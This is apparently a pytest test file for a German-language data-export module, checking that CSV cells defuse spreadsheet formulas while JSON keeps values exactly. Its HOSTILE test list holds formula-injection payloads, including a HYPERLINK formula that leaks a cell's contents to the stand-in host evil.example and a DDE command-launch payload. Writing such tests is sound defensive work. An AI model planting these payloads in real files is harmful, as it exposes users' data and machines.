"""The CSV files of an export defuse spreadsheet formulas; the JSON files keep every value."""

from __future__ import annotations

import csv
import io
import json
from decimal import Decimal

import pytest

from treu.datamap._export_files import csv_bytes, csv_cell, json_bytes, plain

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"Klick")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("value", HOSTILE)
def test_text_a_spreadsheet_would_run_gets_a_quote_in_csv_only(value: str) -> None:
    row = {
        "id": 7,
        "note": value,
        "amount": plain(Decimal("-12.50"), "NUMERIC(10, 2)"),
        "points": -3,
    }
    columns = ["id", "note", "amount", "points"]
    cells = next(csv.reader(io.StringIO(csv_bytes(columns, [row]).decode("utf-8-sig")[
        len("id,note,amount,points\r\n"):])))  # fmt: skip
    assert cells == ["7", "'" + value, "-12.50", "-3"]  # negative numbers stay numbers
    assert json.loads(json_bytes([row]))[0]["note"] == value  # JSON: exactly as stored


@pytest.mark.parametrize(
    ("value", "cell"),
    [("Müller", "Müller"), ("-17", "-17"), ("+4934198765", "+4934198765"), ("-", "'-"),
     ("", ""), (None, ""), (-1.5, "-1.5"), ({"a": "=x"}, '{"a": "=x"}')],
)  # fmt: skip
def test_plain_text_and_numbers_are_left_alone(value: object, cell: str) -> None:
    assert csv_cell(value) == cell  # type: ignore[arg-type]


@pytest.mark.parametrize(
    "data",
    [
        [{"id": 1, "name": "Jörg", "note": None}, {"id": 2, "name": "Ann\n\"B\"", "note": 1.5}],
        {"format": 1, "tables": [{"table": "kunden", "rows": 2, "columns": ["id", "name"]}],
         "meta": {"lang": "de", "empty": {}, "none": []}},
        [], {}, "text", 3, None, [[1, 2], [3]],
    ],
)  # fmt: skip
def test_json_files_read_back_to_the_same_values_one_row_per_line_D5(data: object) -> None:
    text = json_bytes(data).decode("utf-8")
    assert json.loads(text) == data and text.endswith("\n")
    if isinstance(data, list) and data and isinstance(data[0], dict):  # a table's rows
        lines = text.splitlines()
        assert [json.loads(line.strip().rstrip(",")) for line in lines[1:-1]] == data
    assert "Jörg" in text or "Jörg" not in json.dumps(data, ensure_ascii=False)  # no \\u escapes
